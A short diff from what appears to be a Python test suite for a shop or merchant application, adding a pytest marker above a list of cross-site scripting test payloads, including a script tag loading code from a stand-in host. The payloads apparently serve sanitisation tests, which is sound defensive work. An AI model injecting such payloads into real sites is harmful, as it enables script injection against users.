@@ -16,6 +16,8 @@ from merchants.fiche.words import Picture
 from shops.models import ShopPage
 from tests.factories.fiches import decide, kept_fiche, member, president, upload
 
+pytestmark = pytest.mark.any_database
+
 PAYLOADS = [
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.example/x.js></sCrIpT>",
